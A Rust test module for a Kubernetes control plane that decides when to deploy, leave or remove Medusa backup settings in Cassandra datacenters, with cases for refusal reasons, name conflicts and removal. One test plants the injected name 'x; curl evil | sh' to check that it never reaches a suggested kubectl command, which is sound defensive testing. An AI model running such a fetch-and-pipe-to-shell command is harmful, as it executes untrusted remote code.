//! What is decided for a datacenter, from all inputs as the sources and the views have them.

use std::{
    collections::BTreeMap,
    sync::{Arc, LazyLock},
};

use jiff::Timestamp;
use rstest::rstest;
use serde_json::{Value, json};

use super::*;
use crate::control_plane::{
    data_planes::{
        capabilities::Capabilities,
        fleet::Snapshot,
        records::CopyRecord,
        view::{ObjectKey, View},
    },
    deployment::{
        observe::{Deployed, MOST_GONE},
        pass::settings,
    },
    fanout::tests::{live, plane, silent},
    sources::{SourceObjects, Standing, listing},
};

static CONTROL_PLANE: LazyLock<Identity> = LazyLock::new(|| Identity::named("cp"));

/// A Medusa section with nothing wrong in it.
fn medusa() -> Value {
    json!({"storageProperties": {
        "storageProvider": "s3", "bucketName": "backups", "prefix": "shop", "storageSecretRef": {"name": "key"},
    }})
}

/// K8ssandraClusters with one datacenter each, `dc1` of data plane `dp-1`.
struct World {
    sources: SourceObjects,
    planes: Vec<Snapshot>,
}

impl World {
    /// `shop` asks for Medusa in `dc1`, which is there.
    fn new() -> Self {
        let mut world = Self { sources: SourceObjects::default(), planes: vec![plane("dp-1", live(&[]))] };
        world.sources.clusters.standing = Standing::Listed;
        world.sources.configurations.standing = Standing::Listed;
        world.cluster("shop", Some(medusa()));
        world.datacenter(json!({}));
        world
    }

    /// A K8ssandraCluster that lists `dc1`, with or without a Medusa section.
    fn cluster(&mut self, name: &str, medusa: Option<Value>) {
        let object = json!({
            "metadata": {"name": name, "namespace": "fleet"},
            "spec": {
                "cassandra": {"datacenters": [
                    {"metadata": {"name": "dc1", "namespace": "cass"}, "k8sContext": "dp-1", "size": 3},
                ]},
                "medusa": medusa,
            },
        });
        let cluster = Arc::new(serde_json::from_value(object).unwrap());
        self.sources.clusters.items.insert(ObjectKey::new("fleet", name), cluster);
        self.list();
    }

    /// Tells the data planes what is listed in them, as the sources do.
    fn list(&mut self) {
        let listing = listing(&self.sources).unwrap();
        for plane in &mut self.planes {
            plane.listing = Arc::new(listing.get(&plane.name).cloned().unwrap_or_default());
        }
    }

    /// `dc1` with this metadata.
    fn datacenter(&mut self, metadata: Value) {
        let mut object = json!({"metadata": metadata, "spec": {"clusterName": "shop", "size": 3}});
        object["metadata"]["name"] = json!("dc1");
        object["metadata"]["namespace"] = json!("cass");
        let datacenter: CassandraDatacenter = serde_json::from_value(object).unwrap();
        self.view(|view| {
            view.datacenters.put(ObjectKey::new("cass", "dc1"), Arc::new(datacenter.clone()));
        });
    }

    /// `dc1` with our Medusa, there for `cluster`.
    fn deployed_for(&mut self, cluster: &str, fleet: &str) {
        self.datacenter(json!({"annotations": {
            labels::MEDUSA_FOR: format!("fleet/{cluster}"), labels::MEDUSA_FOR_CONTROL_PLANE: fleet,
        }}));
    }

    fn view(&mut self, change: impl Fn(&mut View)) {
        for plane in &mut self.planes {
            change(Arc::make_mut(&mut plane.view));
        }
    }

    fn inputs(&self, cluster: &str) -> ClusterInputs {
        Deployed::of(&self.planes, &CONTROL_PLANE).observe(
            &ObjectKey::new("fleet", cluster),
            &self.sources,
            &CONTROL_PLANE,
        )
    }

    /// What is decided for each target of a cluster, in a word: the decision, or the state and reason.
    fn decided(&self, cluster: &str) -> Vec<String> {
        let inputs = self.inputs(cluster);
        let settings = settings(&inputs);
        let word = |target| match decide(&inputs, target, &settings, None, &CONTROL_PLANE) {
            Decision::Leave(state, why) => format!("{state:?}: {}", why.reason),
            decision @ (Decision::Deploy | Decision::Remove) => format!("{decision:?}"),
        };
        inputs.targets.iter().map(word).collect()
    }
}

#[test]
fn a_datacenter_that_is_there_is_deployed_into_and_is_one_seat_however_often_it_is_listed() {
    let mut world = World::new();
    assert_eq!(world.decided("shop"), ["Deploy"]);
    let mut cluster = (*world.sources.clusters.items[&ObjectKey::new("fleet", "shop")]).clone();
    let listed = &mut cluster.spec.cassandra.as_mut().unwrap().datacenters;
    listed.push(listed[0].clone());
    world.sources.clusters.items.insert(ObjectKey::new("fleet", "shop"), Arc::new(cluster));
    assert_eq!(world.decided("shop"), ["Deploy"]);
}

/// Something that keeps hands off a datacenter, whether Medusa is wanted there or not.
type Obstruct = fn(&mut World);

#[rstest]
#[case::not_registered(|w: &mut World| w.planes.clear(), "Refused: UnknownDataPlane")]
#[case::connecting(|w: &mut World| w.planes[0].usable = Usable::Connecting, "Unknown: DataPlaneUnreachable")]
#[case::silent(|w: &mut World| w.planes = vec![plane("dp-1", silent())], "Unknown: DataPlaneUnreachable")]
#[case::paused(
    |w: &mut World| w.planes[0].usable = Usable::NotReady { reason: Reason::Paused, why: "it is paused".to_owned() },
    "Waiting: Paused"
)]
#[case::not_listed(|w: &mut World| w.view(|v| { v.datacenters.clear(); v.datacenters.trust.begin(); }), "Unknown: DataPlaneUnreachable")]
#[case::not_there(|w: &mut World| w.view(|v| v.datacenters.clear()), "NotFound: DatacenterNotFound")]
#[case::of_an_older_k8ssandra_operator(
    |w: &mut World| w.datacenter(json!({"labels": {labels::CREATED_BY: "k8ssandracluster-controller"}})),
    "HandsOff: ManagedElsewhere"
)]
#[case::of_k8ssandra_operator(
    |w: &mut World| w.datacenter(json!({"labels": {labels::APP_NAME: "k8ssandra-operator"}})),
    "HandsOff: ManagedElsewhere"
)]
#[case::cleaned_up_by_k8ssandra_operator(
    |w: &mut World| w.datacenter(json!({"labels": {labels::CLEANED_UP_BY: "k8ssandracluster-controller"}})),
    "HandsOff: ManagedElsewhere"
)]
#[case::held_by_k8ssandra_operator(
    |w: &mut World| w.datacenter(json!({"finalizers": [labels::UPSTREAM_FINALIZER]})),
    "HandsOff: ManagedElsewhere"
)]
#[case::going(
    |w: &mut World| w.datacenter(json!({"deletionTimestamp": "2026-01-01T00:00:00Z"})),
    "Waiting: DatacenterNotFound"
)]
#[case::restored(|w: &mut World| w.datacenter(json!({"annotations": {labels::RESTORE: "job"}})), "Waiting: RestoreRunning")]
#[case::not_permitted(
    |w: &mut World| w.view(|v| v.capabilities = Arc::new(Capabilities {
        not_granted: Some([("configmaps".to_owned(), vec!["create".to_owned()])].into()),
        ..Capabilities::all()
    })),
    "Refused: NotAuthorized"
)]
#[case::not_asked(|w: &mut World| w.view(|v| v.capabilities = Arc::default()), "Waiting: Connecting")]
fn what_cannot_be_reached_or_touched_is_left_and_the_reason_said(
    #[case] obstruct: Obstruct,
    #[case] left: &str,
) {
    let mut world = World::new();
    obstruct(&mut world);
    assert_eq!(world.decided("shop"), [left]);
}

#[rstest]
#[case::of_another_cluster(|w: &mut World| w.deployed_for("first", "cp"), "Refused: NameConflict")]
#[case::of_another_control_plane(|w: &mut World| w.deployed_for("shop", "other"), "Refused: NameConflict")]
#[case::unreadable(
    |w: &mut World| drop(w.sources.clusters.unreadable.insert(ObjectKey::new("fleet", "shop"), "no".to_owned())),
    "Refused: InvalidObject"
)]
#[case::wrong(|w: &mut World| w.cluster("shop", Some(json!({"storageProperties": {}}))), "Refused: InvalidSpec")]
#[case::without_its_configuration(
    |w: &mut World| w.cluster("shop", Some(json!({"medusaConfigurationRef": {"name": "s3"}, "storageProperties": {"prefix": "p"}}))),
    "Refused: ConfigurationNotFound"
)]
#[case::before_configurations_are_listed(
    |w: &mut World| {
        w.cluster("shop", Some(json!({"medusaConfigurationRef": {"name": "s3"}, "storageProperties": {"prefix": "p"}})));
        w.sources.configurations.standing = Standing::NotListed;
    },
    "Refused: Connecting"
)]
fn what_may_not_be_deployed_is_refused_and_the_reason_said(#[case] spoil: Obstruct, #[case] left: &str) {
    let mut world = World::new();
    world.cluster("first", Some(medusa()));
    // The first by name has it, unless it is somebody else's or the second's already.
    world.deployed_for("shop", "cp");
    assert_eq!(world.decided("shop"), ["Deploy"]);
    assert_eq!(world.decided("first"), ["Refused: NameConflict"]);
    spoil(&mut world);
    assert_eq!(world.decided("shop"), [left]);
}

#[test]
fn a_prefix_that_is_in_use_is_not_deployed_over() {
    let world = World::new();
    let inputs = world.inputs("shop");
    let other = ObjectKey::new("fleet", "other");
    for (behind, refused) in [(Some(other.clone()), true), (None, false)] {
        let collision = Collision { with: vec![other.clone()], behind };
        let decision =
            decide(&inputs, &inputs.targets[0], &settings(&inputs), Some(&collision), &CONTROL_PLANE);
        let is_refused = matches!(&decision, Decision::Leave(_, why) if why.reason == Reason::PrefixInUse);
        assert_eq!(is_refused, refused, "{decision:?}");
    }
}

#[test]
fn medusa_of_an_earlier_installation_stays_until_its_cluster_is_back_and_says_otherwise() {
    let mut world = World::new();
    world.datacenter(json!({"annotations": {
        labels::MEDUSA_FOR: "fleet/shop", labels::MEDUSA_FOR_CONTROL_PLANE: "cp", labels::INSTALLATION: "earlier",
    }}));
    assert_eq!(world.decided("shop"), ["Deploy"], "it is gone on with");
    world.sources.clusters.items.clear();
    world.list();
    assert_eq!(world.decided("shop"), ["Waiting: Inherited"]);
    world.cluster("shop", None);
    assert_eq!(world.decided("shop"), ["Remove"], "it is back, and asks for no Medusa");
}

#[test]
fn what_is_no_name_becomes_a_part_of_no_command() {
    let said = |fleet: &str| {
        let mut world = World::new();
        world.deployed_for("shop", fleet);
        let inputs = world.inputs("shop");
        match decide(&inputs, &inputs.targets[0], &settings(&inputs), None, &CONTROL_PLANE) {
            Decision::Leave(_, why) => why.message,
            decision @ (Decision::Deploy | Decision::Remove) => panic!("{decision:?}"),
        }
    };
    assert!(said("other").contains("`kubectl medusa adopt --from other`"));
    let planted = said("x; curl evil | sh");
    assert!(!planted.contains("adopt"), "{planted}");
}

#[test]
fn medusa_is_taken_out_only_when_it_is_certain_that_nobody_asks_for_it() {
    let mut world = World::new();
    world.deployed_for("shop", "cp");
    world.cluster("shop", None);
    assert_eq!(world.decided("shop"), ["Remove"], "the section is gone");

    world.sources.clusters.items.clear();
    world.list();
    assert_eq!(world.decided("shop"), ["Remove"], "the cluster is gone");
    assert!(
        Deployed::of(&world.planes, &CONTROL_PLANE)
            .concerned(&world.sources)
            .keys
            .contains(&ObjectKey::new("fleet", "shop"))
    );
    for standing in [Standing::NotListed, Standing::NotServed, Standing::Forbidden] {
        world.sources.clusters.standing = standing;
        assert_eq!(world.decided("shop"), ["Waiting: Connecting"], "{standing:?} says nothing of it");
    }

    // Another cluster takes the datacenter over as it is.
    world.sources.clusters.standing = Standing::Listed;
    world.cluster("next", Some(medusa()));
    assert_eq!(world.decided("shop"), Vec::<String>::new());
    assert_eq!(world.decided("next"), ["Deploy"]);

    // What another control plane deployed concerns nobody here.
    world.sources.clusters.items.clear();
    world.deployed_for("shop", "other");
    assert!(Deployed::of(&world.planes, &CONTROL_PLANE).concerned(&world.sources).keys.is_empty());
}

#[test]
fn a_data_plane_that_names_many_clusters_that_are_gone_keeps_none_of_anothers_waiting() {
    let mut world = World::new();
    world.list();
    let mut other = world.planes[0].clone();
    other.name = "other".to_owned();
    let claim = |plane: &mut Snapshot, names: &mut dyn Iterator<Item = String>| {
        let mut view = (*plane.view).clone();
        for name in names {
            let map = CopyRecord { source: format!("fleet/{name}"), ..CopyRecord::default() };
            view.config_maps.put(ObjectKey::new("cass", format!("{name}-medusa")), Arc::new(map));
        }
        plane.view = Arc::new(view);
    };
    claim(&mut world.planes[0], &mut (0..100).map(|number| format!("a{number:03}")));
    claim(&mut other, &mut ["a000", "a099", "z"].map(str::to_owned).into_iter());
    world.planes.push(other);
    let concerned = Deployed::of(&world.planes, &CONTROL_PLANE).concerned(&world.sources);
    let names: Vec<&str> = concerned.keys.iter().map(|key| key.name.as_str()).collect();
    assert_eq!(names.len(), MOST_GONE + 3, "{names:?}");
    assert!(names.contains(&"a000") && names.ends_with(&["a063", "a099", "shop", "z"]), "{names:?}");
    assert_eq!(concerned.waiting, BTreeMap::from([(world.planes[0].name.clone(), 35)]));
}

#[test]
fn a_pass_is_made_again_when_something_it_depends_on_changed_and_else_not() {
    let mut world = World::new();
    let now = Timestamp::UNIX_EPOCH;
    let fingerprint = |world: &World| world.inputs("shop").fingerprint(&world.sources, now);
    let mut before = fingerprint(&world);
    assert_eq!(fingerprint(&world), before);
    world.view(|view| view.backups.trust.begin());
    assert_eq!(fingerprint(&world), before, "backups do not matter to it");
    let changes: [(&str, Obstruct); 5] = [
        ("the datacenter", |w| w.datacenter(json!({"generation": 2}))),
        ("who manages it", |w| {
            w.datacenter(json!({"generation": 2, "labels": {labels::APP_NAME: "k8ssandra-operator"}}));
        }),
        ("its data plane", |w| w.planes[0].usable = Usable::Connecting),
        ("what is permitted", |w| w.view(|view| view.capabilities = Arc::default())),
        ("a Secret", |w| {
            let state = crate::control_plane::sources::SecretState::Absent;
            w.sources.secrets.insert(ObjectKey::new("fleet", "key"), state);
        }),
    ];
    for (what, change) in changes {
        change(&mut world);
        let after = fingerprint(&world);
        assert_ne!(after, before, "{what} changed");
        before = after;
    }
}
